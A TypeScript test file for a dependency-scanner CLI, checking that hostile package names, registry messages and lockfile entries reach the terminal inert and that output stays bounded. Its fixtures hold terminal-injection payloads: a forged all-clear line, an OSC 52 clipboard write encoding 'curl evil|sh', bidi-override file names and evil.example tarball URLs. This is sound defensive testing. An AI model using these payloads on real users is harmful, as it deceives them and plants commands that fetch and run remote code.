/**
 * Issue 10, rows 7 and 14 (output half): text that came from the scanned files or the
 * registry must not drive the terminal (ANSI/OSC sequences, C1 controls, bidi overrides,
 * line breaks that forge a summary line) and must not blow up the output (a 20 MB string).
 * The CLI runs as a child process, as in CI; the registry is a loopback test server.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { runCli } from '../support/cli';
import { startFakeRegistry, type FakeRegistry } from '../support/fake-registry';
import { npmLockText, tempProject } from '../support/fixtures';

const OLD = '2019-01-01T00:00:00.000Z';

/** What a terminal acts on: C0 but the line ends we write ourselves, DEL, C1, bidi controls. */
// eslint-disable-next-line no-control-regex
const TERMINAL_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** Erase the line, go up, print a fake all-clear, then write to the clipboard (OSC 52). */
const FORGED = '\x1b[2K\x1b[1A\rNo problems found.\x1b]52;c;Y3VybCBldmlsfHNo\x07';

function assertClean(out: string, what: string): void {
  const m = TERMINAL_CONTROL.exec(out);
  assert.ok(m === null, `${what} holds a control character U+${m?.[0].codePointAt(0)!.toString(16).padStart(4, '0')} at ${m?.index}: ${JSON.stringify(out.slice(Math.max(0, (m?.index ?? 0) - 40), (m?.index ?? 0) + 40))}`);
}

/** No line may be the forged summary (a name with a newline must not start a line of its own). */
function assertNoForgedLine(out: string): void {
  for (const line of out.split('\n')) assert.notEqual(line.trim(), 'No problems found.', out);
}

const cli = (args: string[], cwd?: string) => runCli(args, { cwd });

let reg: FakeRegistry;
const cleanup: string[] = [];
before(async () => {
  reg = await startFakeRegistry();
});
after(async () => {
  await reg.close();
  for (const d of cleanup) rmSync(d, { recursive: true, force: true });
});

function project(files: Record<string, string>): string {
  const dir = tempProject(files, 'depwarden-hostile-');
  cleanup.push(dir);
  return dir;
}

test('scan text: control bytes and line breaks in package names from package.json and a lockfile reach the terminal inert', async () => {
  const osc = `evil${FORGED}`;
  const bidi = 'invoice\u202egpj.exe\u2066x\u2069';
  const c1 = 'c1\x9b2J\x9d52;c;eA\x9c';
  const newline = 'nl\nNo problems found.';
  const dir = project({
    'package.json': JSON.stringify({ name: 'app', dependencies: { [osc]: '*', [bidi]: 'latest', [c1]: '>=1', [newline]: '*' } }, null, 2),
    'package-lock.json': npmLockText({ [`lock${FORGED}`]: { version: '1.0.0', resolved: `http://evil.example/x\x1b[8m.tgz`, hasInstallScript: true } }),
  });
  const r = await cli(['scan', dir, '--offline', '--cache-dir', path.join(dir, '.cache'), '--no-advisories']);
  assertClean(r.stdout, 'stdout');
  assertClean(r.stderr, 'stderr');
  assertNoForgedLine(r.stdout);
  assert.equal(r.code, 1, r.stderr);
  // The real findings are all still there, one line each.
  const unpinned = r.stdout.split('\n').filter((l) => l.includes('unpinned-range'));
  assert.equal(unpinned.length, 4, r.stdout);
  assert.match(r.stdout, /insecure-url/);
  assert.match(r.stdout, /install-script/);
  assert.match(r.stdout, /\d+ errors?, \d+ warnings?/);
});

test('scan text, json and sarif: hostile deprecated message, install script and publisher from the registry', async () => {
  reg.addPackage('dep-msg', { created: OLD, versions: { '1.0.0': { time: OLD, repository: 'https://github.com/x/y', deprecated: `use another${FORGED}` } } });
  reg.addPackage('script-pkg', { created: OLD, versions: { '1.0.0': { time: OLD, repository: 'https://github.com/x/y', scripts: { postinstall: `node i.js${FORGED}\u202e` } } } });
  reg.addPackage('hijack', {
    created: OLD,
    versions: {
      '1.0.0': { time: OLD, repository: 'https://github.com/x/y', npmUser: 'owner' },
      '1.0.1': { time: '2020-01-01T00:00:00.000Z', repository: 'https://github.com/x/y', npmUser: `intruder\u202e\x9b2J${FORGED}` },
    },
  });
  const dir = project({ 'package.json': JSON.stringify({ name: 'app', dependencies: { 'dep-msg': '1.0.0', 'script-pkg': '1.0.0', hijack: '1.0.1' } }, null, 2) });
  const args = ['scan', dir, '--registry', reg.url, '--no-advisories', '--cache-dir', path.join(dir, '.cache'), '--fail-on', 'never'];
  const text = await cli(args);
  assert.equal(text.code, 0, text.stderr);
  assertClean(text.stdout, 'text stdout');
  assertClean(text.stderr, 'stderr');
  assertNoForgedLine(text.stdout);
  for (const rule of ['deprecated', 'install-script', 'trust-change']) assert.match(text.stdout, new RegExp(`  ${rule}`), `${rule} missing:\n${text.stdout}`);
  assert.match(text.stdout, /is deprecated: "use another/);
  assert.match(text.stdout, /published by "intruder/);

  // JSON and SARIF keep the text (escaped), but no raw C1 or bidi character reaches a terminal that shows them.
  for (const format of ['json', 'sarif']) {
    const r = await cli([...args, '--format', format, '--quiet']);
    assertClean(r.stdout.replace(/\n/g, ' '), `${format} stdout`);
    const parsed = JSON.parse(r.stdout);
    assert.ok(parsed, format);
  }
  const json = JSON.parse((await cli([...args, '--format', 'json', '--quiet'])).stdout) as { findings: { rule: string; message: string }[] };
  const trust = json.findings.find((f) => f.rule === 'trust-change');
  assert.ok(trust?.message.includes('intruder\u202e\x9b2J'), 'JSON keeps the exact text, as escapes');
});

test('a 20 MB deprecated message, install script and publisher give bounded output in every format', async () => {
  const huge = 'A'.repeat(20 * 1024 * 1024);
  reg.addPackage('huge-pkg', {
    created: OLD,
    versions: {
      '1.0.0': { time: OLD, repository: 'https://github.com/x/y', npmUser: 'owner' },
      '1.0.1': { time: '2020-01-01T00:00:00.000Z', repository: 'https://github.com/x/y', deprecated: huge, scripts: { preinstall: huge }, npmUser: huge },
    },
  });
  const dir = project({ 'package.json': JSON.stringify({ name: 'app', dependencies: { 'huge-pkg': '1.0.1' } }, null, 2) });
  const args = ['scan', dir, '--registry', reg.url, '--no-advisories', '--cache-dir', path.join(dir, '.cache'), '--fail-on', 'never', '--quiet'];
  for (const format of ['text', 'json', 'sarif']) {
    const r = await cli([...args, '--format', format]);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(r.stdout.length < 100_000, `${format}: ${r.stdout.length} characters of output`);
    for (const rule of ['deprecated', 'install-script', 'trust-change']) assert.ok(r.stdout.includes(rule), `${format}: ${rule} missing`);
    assert.ok(r.stdout.includes('…'), `${format}: truncation is marked with an ellipsis`);
  }
});

test('diff text: hostile names and versions in the changed lockfile reach the terminal inert', async (t) => {
  const dir = mkdtempSync(path.join(tmpdir(), 'depwarden-hostile-diff-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const git = (...a: string[]) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'commit.gpgsign=false', ...a], { cwd: dir, stdio: 'pipe' });
  const evil = `evil${FORGED}\u202e`;
  writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'app', dependencies: { a: '1.0.0' } }));
  writeFileSync(path.join(dir, 'package-lock.json'), npmLockText({ a: '1.0.0', b: '1.0.0' }));
  git('init', '-q');
  git('add', '.');
  git('commit', '-qm', 'base');
  writeFileSync(
    path.join(dir, 'package-lock.json'),
    npmLockText({ a: '1.0.0', b: { version: `1.0.1\x1b[2K\nNo problems found.` }, [evil]: { version: '1.0.0', hasInstallScript: true, resolved: 'http://evil.example/e.tgz' } }),
  );
  const r = await cli(['diff', dir, '--offline', '--cache-dir', path.join(dir, '.cache')]);
  assertClean(r.stdout, 'stdout');
  assertClean(r.stderr, 'stderr');
  assertNoForgedLine(r.stdout);
  assert.equal(r.code, 1, r.stderr);
  assert.match(r.stdout, /package-lock\.json: 1 added, 1 upgraded/);
  assert.match(r.stdout, /\+ evil/);
  assert.match(r.stdout, /insecure-url/);
  assert.match(r.stdout, /install-script/);
  assert.match(r.stdout, /\d+ findings? on what the changes bring in/);
});
